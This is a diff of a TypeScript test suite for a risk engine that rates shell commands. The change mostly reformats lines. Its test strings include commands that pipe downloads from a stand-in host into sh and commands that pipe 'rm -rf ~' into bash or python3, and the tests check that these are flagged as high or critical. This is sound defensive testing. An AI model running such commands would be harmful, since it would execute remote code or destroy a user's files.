@@ -10,7 +10,9 @@ import { PROJECT, testContextOptions } from '../../../support/risk.ts';
 
 let engine: RiskEngine;
 beforeAll(async () => {
-  engine = await createRiskEngine(testContextOptions({ branch: 'feature/x', changedFiles: 3, changedLines: 40, untrackedFiles: 0, stashes: 0 }));
+  engine = await createRiskEngine(
+    testContextOptions({ branch: 'feature/x', changedFiles: 3, changedLines: 40, untrackedFiles: 0, stashes: 0 }),
+  );
 });
 
 const assess = (cmd: string) => engine.assess(cmd, PROJECT);
@@ -63,17 +65,14 @@ describe('what is piped into a shell or interpreter, when no literal produces it
     expect(a.reasons.join(' | ')).toMatch(/nobody has read|hidden code/);
   });
 
-  it.each([
-    'echo "ls $DIR" | sh',
-    'echo $CMD | bash',
-    'printf "%s" "$PAYLOAD" | sh',
-    'echo "$CODE" | python3',
-  ])('%s is high: the text is only known at run time', (cmd) => {
-    const a = assess(cmd);
-    expect(['high', 'critical'], said(cmd)).toContain(a.level);
-    expect(a.reasons.join(' | ')).toMatch(/fills in at run time/);
-  });
-
+  it.each(['echo "ls $DIR" | sh', 'echo $CMD | bash', 'printf "%s" "$PAYLOAD" | sh', 'echo "$CODE" | python3'])(
+    '%s is high: the text is only known at run time',
+    (cmd) => {
+      const a = assess(cmd);
+      expect(['high', 'critical'], said(cmd)).toContain(a.level);
+      expect(a.reasons.join(' | ')).toMatch(/fills in at run time/);
+    },
+  );
 });
 
 describe('pipelines that reach the network', () => {
@@ -100,7 +99,9 @@ describe('pipelines that reach the network', () => {
 
   it('says where the code came from', () => {
     expect(assess('dig +short txt x.example | sh').reasons[0]).toMatch(/dig receives from x\.example/);
-    expect(assess('curl -s https://x.example/i | tr a b | sh').reasons[0]).toMatch(/download from x\.example passed through tr/);
+    expect(assess('curl -s https://x.example/i | tr a b | sh').reasons[0]).toMatch(
+      /download from x\.example passed through tr/,
+    );
   });
 });
 
@@ -117,7 +118,7 @@ describe('what stays as it was', () => {
     ['echo "rm -rf ~" | bash', 'critical'],
     ["printf '%s\\n' 'rm -rf ~' | sh", 'critical'],
     ['cat <<EOF | bash\nrm -rf ~\nEOF', 'critical'],
-    ["printf 'import os\\nos.system(\"rm -rf ~\")' | python3", 'critical'],
+    ['printf \'import os\\nos.system("rm -rf ~")\' | python3', 'critical'],
     ['echo ls | sh', 'low'],
     ["echo 'print(1)' | python3", 'low'],
     ['cat <<EOF | sh\nls -la\nEOF', 'low'],
